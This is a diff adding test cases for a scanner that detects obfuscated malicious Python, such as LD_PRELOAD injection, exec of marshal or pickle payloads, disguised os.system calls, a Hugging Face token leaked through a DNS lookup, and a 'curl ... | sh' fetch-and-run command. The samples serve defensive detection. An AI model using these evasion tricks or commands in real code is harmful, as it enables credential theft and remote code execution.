@@ -142,3 +142,26 @@ describe('findCompiledFiles', () => {
     ]);
   });
 });
+
+describe('scanPythonCode on further evasions', () => {
+  const cases: [string, string, string, Severity][] = [
+    ['LD_PRELOAD set at import', 'import os\nos.environ["LD_PRELOAD"] = "/tmp/x.so"\n', 'MG589', 'critical'],
+    ['marshal payload under exec', 'import marshal, base64\nexec(marshal.loads(base64.b64decode("4wAAAA==")))\n', 'MG593', 'critical'],
+    ['pickle payload', 'import pickle, base64\npickle.loads(base64.b64decode("gASVAAAA"))\n', 'MG593', 'critical'],
+    ['eval of a constant that imports os', 'eval("__import__(\'os\').system(\'id\')")\n', 'MG584', 'critical'],
+    ['exec of bytes built from a list', `exec(bytes([${[...Buffer.from('import os\nos.system("id")')].join(',')}]))\n`, 'MG584', 'critical'],
+    ['reversed() join', 'import os\ngetattr(os, "".join(reversed("metsys")))("id")\n', 'MG584', 'critical'],
+    ['lambda thread target', 'import os, threading\nthreading.Thread(target=lambda: os.system("id")).start()\n', 'MG584', 'critical'],
+    ['class body', 'import os\nclass A:\n    os.system("id")\n', 'MG584', 'critical'],
+    ['token through DNS', 'from huggingface_hub import HfFolder\nimport socket\nt = HfFolder.get_token()\nsocket.gethostbyname(t + ".x.example")\n', 'MG592', 'critical'],
+    ['bz2 payload (not decodable here) under exec', 'import bz2, base64\nexec(bz2.decompress(base64.b64decode("QlpoOTFBWSZTWQ==")))\n', 'MG593', 'critical'],
+    ['str.format command', 'import os\ncmd = "{} {}".format("cu" + "rl", "http://x.example/s | sh")\nos.system(cmd)\n', 'MG584', 'critical'],
+    ['importlib through __import__', 'm = __import__("importlib").import_module("sub" "process")\nm.call("id", shell=True)\n', 'MG584', 'critical'],
+    ['whole environment iterated', 'import os\nfor k, v in os.environ.items():\n    pass\n', 'MG588', 'high'],
+    ['fullwidth attribute', 'import os\nos.\uff53\uff59\uff53\uff54\uff45\uff4d("id")\n', 'MG584', 'critical'],
+  ];
+  it.each(cases)('%s', async (_name, text, rule, severity) => {
+    const findings = await scanPythonCode('x.py', text);
+    expect(findings.some((f) => f.rule === rule && RANK[f.severity ?? 'info'] >= RANK[severity])).toBe(true);
+  });
+});
